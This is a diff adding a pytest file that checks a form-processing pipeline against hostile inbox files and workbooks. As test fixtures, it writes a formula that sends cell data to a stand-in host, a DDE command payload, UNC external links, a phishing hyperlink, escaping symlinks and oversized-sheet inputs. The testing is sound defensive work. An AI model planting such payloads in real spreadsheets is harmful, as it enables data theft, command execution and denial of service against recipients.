@@ -1,0 +1,141 @@
+"""Hostile input, round 2 (issue 18): odd inbox entries never stop the round, nothing live
+reaches staff in a 差戻し workbook, and openpyxl never builds a sheet of unbounded size."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+import time
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import openpyxl
+import pytest
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.worksheet import Worksheet
+
+from pipeline.core.settings import RoundSettings
+from pipeline.run import run_round
+from pipeline.stage1_read.sniff import sniff
+from tests.formfactory import find_label, make_form, with_values
+from tests.roundfactory import RUN_AT, add_form, org
+
+ROOT = Path(__file__).resolve().parents[1]
+
+
+@pytest.fixture
+def inbox(tmp_path: Path) -> Path:
+    folder = tmp_path / "inbox"
+    folder.mkdir()
+    return folder
+
+
+def test_odd_names_and_links_never_stop_the_round(inbox: Path, blank_dir: Path,
+                                                 settings: RoundSettings, tmp_path: Path) -> None:
+    good = add_form(inbox, "good.xlsx", org("良い会", "新宿区"), blank_dir=blank_dir)
+    # a name in Shift_JIS bytes, as unzip leaves it on Linux
+    sjis = os.path.join(os.fsencode(inbox), "申請書_杉並.xlsx".encode("cp932"))
+    with open(sjis, "wb") as handle:
+        handle.write(good.read_bytes().replace(b"x", b"x"))
+    (inbox / "bad\x1bname.xlsx").write_bytes(b"not a workbook")  # ESC in the name
+    secret = tmp_path / "secret.txt"
+    secret.write_text("password", encoding="utf-8")
+    (inbox / "link.xlsx").symlink_to(secret)  # a link out of inbox/
+    (inbox / "loop.xlsx").symlink_to(inbox / "loop.xlsx")  # a link to itself
+    result = run_round(inbox, tmp_path / "outbox", settings, RUN_AT)
+    files = set(result.ledger["file"])
+    assert "申請書_杉並.xlsx" in files  # shown decoded, read from the real path
+    assert "bad\ufffdname.xlsx" in files
+    assert not {"link.xlsx", "loop.xlsx"} & files  # links are listed, never read
+    ignored = dict(result.ignored)
+    assert ignored["link.xlsx"].startswith("リンク") and ignored["loop.xlsx"].startswith("リンク")
+    published = b"".join(p.read_bytes() for p in (tmp_path / "outbox").rglob("*") if p.is_file())
+    assert b"password" not in published
+
+
+@pytest.mark.parametrize("kind", ["fifo", "device"])
+def test_check_never_waits_on_a_pipe_or_a_device(tmp_path: Path, kind: str) -> None:
+    path = tmp_path / "申請.xlsx"
+    if kind == "fifo":
+        os.mkfifo(path)
+    else:
+        path.symlink_to("/dev/zero")
+    assert sniff(path) == "cannot_open"
+    started = time.monotonic()
+    completed = subprocess.run([sys.executable, "-m", "pipeline", "check", str(path)],
+                               cwd=ROOT, capture_output=True, text=True, timeout=60)
+    assert completed.returncode == 1 and time.monotonic() - started < 60
+    assert "ファイルを開けません" in completed.stdout
+
+
+def _live(sheet: Worksheet) -> None:
+    """Formulas that call out, a DDE link, an external reference, a phishing hyperlink."""
+    sheet["E1"] = '=WEBSERVICE("http://example.invalid/?"&ENCODEURL(B8))'
+    sheet["E2"] = "=cmd|' /C calc'!A0"
+    sheet["E3"] = "='\\\\host\\share\\[x.xlsx]Sheet1'!A1"
+    sheet["E4"] = "ここをクリック"
+    sheet["E4"].hyperlink = "http://phishing.invalid/"
+    row, col = find_label(sheet, "電話番号")
+    sheet.cell(row, col + 1).value = "12"  # an input problem: the form comes back to fix
+
+
+def test_the_returned_workbook_holds_nothing_live(inbox: Path, blank_dir: Path,
+                                                 settings: RoundSettings, tmp_path: Path) -> None:
+    path = make_form(inbox / "live.xlsx", with_values({"団体名": "=HYPERLINK(\"x\",\"typed\")"}),
+                     edit=_live, blank_dir=blank_dir)
+    workbook = openpyxl.load_workbook(path)
+    workbook.defined_names["外部"] = DefinedName("外部", attr_text="'\\\\host\\[y.xlsx]S'!$A$1")
+    workbook.save(path)
+    run_round(inbox, tmp_path / "outbox", settings, RUN_AT)
+    marked = tmp_path / "outbox" / "差戻し" / "live_要修正.xlsx"
+    returned = openpyxl.load_workbook(marked)
+    sheet = returned["申請書"]
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert not [c.coordinate for c in cells if c.hyperlink]
+    assert not list(returned.defined_names)
+    # what the applicant typed that merely looks like a formula stays their text
+    row, col = find_label(sheet, "団体名")
+    assert sheet.cell(row, col + 1).value == '=HYPERLINK("x","typed")'
+    with zipfile.ZipFile(marked) as archive:
+        assert not [n for n in archive.namelist() if "externalLink" in n]
+
+
+def _rewrite(path: Path, part: str, change: Callable[[bytes], bytes]) -> None:
+    with zipfile.ZipFile(path) as archive:
+        parts = {info: archive.read(info) for info in archive.infolist()}
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for info, data in parts.items():
+            archive.writestr(info, change(data) if info.filename == part else data)
+
+
+def test_a_merged_range_reaching_the_sheet_s_end_is_never_built(
+        inbox: Path, blank_dir: Path, settings: RoundSettings, tmp_path: Path) -> None:
+    """openpyxl would create every cell of the range (8 GB in 79 s): the check before it refuses."""
+    path = make_form(inbox / "merge.xlsx", org("結合の会", "新宿区", {"電話番号": "12"}),
+                     blank_dir=blank_dir)
+    # on the guidance sheet, not 申請書: the form itself reads fine and comes back to fix
+    _rewrite(path, "xl/worksheets/sheet2.xml", lambda xml: xml.replace(
+        b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="D1:XFD1048576"/>'
+                         b"</mergeCells>", 1))
+    started = time.monotonic()
+    result = run_round(inbox, tmp_path / "outbox", settings, RUN_AT)
+    assert time.monotonic() - started < 30
+    assert result.ledger.set_index("file").loc["merge.xlsx", "decision"] == "要修正"
+    # never opened by openpyxl: the values go back in a fresh copy of our own form
+    marked = openpyxl.load_workbook(tmp_path / "outbox" / "差戻し" / "merge_要修正.xlsx")
+    assert not marked["記入方法"].merged_cells.ranges or all(
+        "XFD" not in str(r) for r in marked["記入方法"].merged_cells.ranges)
+    letter = (tmp_path / "outbox" / "差戻し" / "merge_連絡文.txt").read_text(encoding="utf-8")
+    assert "新しい申請用紙（.xlsx）に写し" in letter
+
+
+def test_a_workbook_declaring_thousands_of_sheets_is_refused(tmp_path: Path,
+                                                            blank_dir: Path) -> None:
+    path = make_form(tmp_path / "many.xlsx", blank_dir=blank_dir)
+    sheets = b"".join(b'<sheet name="s%d" sheetId="%d" r:id="rId1"/>' % (n, n + 10)
+                      for n in range(20000))
+    _rewrite(path, "xl/workbook.xml", lambda xml: xml.replace(b"</sheets>", sheets + b"</sheets>"))
+    assert sniff(path) == "too_big"
